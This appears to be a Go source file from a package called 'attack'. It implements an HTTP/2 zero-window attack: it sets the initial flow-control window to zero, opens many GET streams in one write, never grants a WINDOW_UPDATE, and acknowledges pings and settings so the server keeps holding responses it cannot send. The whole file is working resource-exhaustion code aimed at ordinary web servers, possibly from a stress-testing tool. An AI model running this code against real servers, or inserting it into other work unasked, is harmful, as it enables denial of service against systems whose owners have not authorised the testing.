package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// zeroWindow asks for many responses over HTTP/2 and has no window for any of them:
// SETTINGS_INITIAL_WINDOW_SIZE is 0, and no WINDOW_UPDATE follows.
func zeroWindow(ctx context.Context, p Plan, i int, opened func()) error {
	c, err := dial(ctx, p, i, 0)
	if err != nil {
		return err
	}
	defer c.Close()
	var out bytes.Buffer
	if err := askAll(&out, p); err != nil {
		return err
	}
	if _, err := c.Write(out.Bytes()); err != nil {
		return err
	}
	opened()
	return listen(c, p.Streams)
}

// askAll writes what such a client says first, all of it in one go.
func askAll(to *bytes.Buffer, p Plan) error {
	to.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(to, nil)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var block bytes.Buffer
	fields := hpack.NewEncoder(&block)
	for n := range p.Streams {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", p.Address}, {":path", p.Path}} {
			if err := fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
				return err
			}
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*n + 1), BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
		}); err != nil {
			return err
		}
	}
	return nil
}

// listen stays polite otherwise: settings and pings are acknowledged. It returns when
// the connection has ended, or none of its streams is left.
func listen(c io.ReadWriter, streams int) error {
	framer := http2.NewFramer(c, c)
	for streams > 0 {
		f, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = framer.WritePing(true, f.Data)
			}
		case *http2.RSTStreamFrame:
			streams--
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				streams--
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				streams--
			}
		case *http2.GoAwayFrame:
			return fmt.Errorf("told to go away: %v", f.ErrCode)
		}
		if err != nil {
			return err
		}
	}
	return io.EOF
}
